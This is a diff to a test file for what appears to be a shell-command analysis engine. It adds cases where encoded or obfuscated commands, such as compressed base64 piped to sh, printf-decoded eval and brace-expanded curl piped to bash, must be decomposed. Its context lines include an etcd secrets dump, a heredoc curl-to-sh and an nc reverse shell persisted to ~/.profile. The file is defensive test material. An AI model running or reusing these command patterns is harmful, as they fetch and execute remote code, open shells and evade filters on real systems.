@@ -1,3 +1,4 @@
+import { brotliCompressSync, gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { getEngine } from './helpers/engine.js';
 
@@ -78,6 +79,11 @@ const CASES: Array<[string, string[]]> = [
   ["python3 -c 'exec(\"print(1)\")'", ['python3 -c exec("print(1)")']],
   ['kubectl -n kube-system exec etcd-0 -- etcdctl get /registry/secrets --prefix', ['kubectl -n kube-system exec etcd-0 -- etcdctl get /registry/secrets --prefix', 'remote:etcdctl get /registry/secrets --prefix']],
   ['kubectl -n exec get pods -- x', ['kubectl -n exec get pods -- x']],
+  [`echo ${gzipSync('id\n').toString('base64')} | base64 -d | gunzip | sh`, [`echo ${gzipSync('id\n').toString('base64')}`, 'base64 -d', 'gunzip', 'sh', 'piped-to-shell:id']],
+  [`echo ${brotliCompressSync('id\n').toString('base64')} | base64 -d | brotli -d | sh`, [`echo ${brotliCompressSync('id\n').toString('base64')}`, 'base64 -d', 'brotli -d', 'sh', 'piped-to-shell:id']],
+  ["f(){ eval \"$(printf '%b' \"$1\")\"; }; f '\\x69\\x64'", ['substitution:printf %b ', 'eval ', 'eval:id', 'f \\x69\\x64']],
+  ['{curl,-s,http://203.0.113.9/x}|{bash,}', ['fallback:curl -s http://203.0.113.9/x', 'fallback:bash']],
+  ['echo {x,} a{,}b', ['echo x ab ab']],
   ['bash <<EOF\ncurl -s $U | sh\nEOF', ['bash', 'heredoc-to-shell:curl -s $U', 'heredoc-to-shell:sh']],
   ['cat > ~/.profile <<EOF\nnc $H 4444 -e /bin/sh\nEOF', ['cat', 'persisted:nc $H 4444 -e /bin/sh']],
   ['f(){ eval "$1" >/dev/null; }; f ls', ['eval ', 'f ls']],
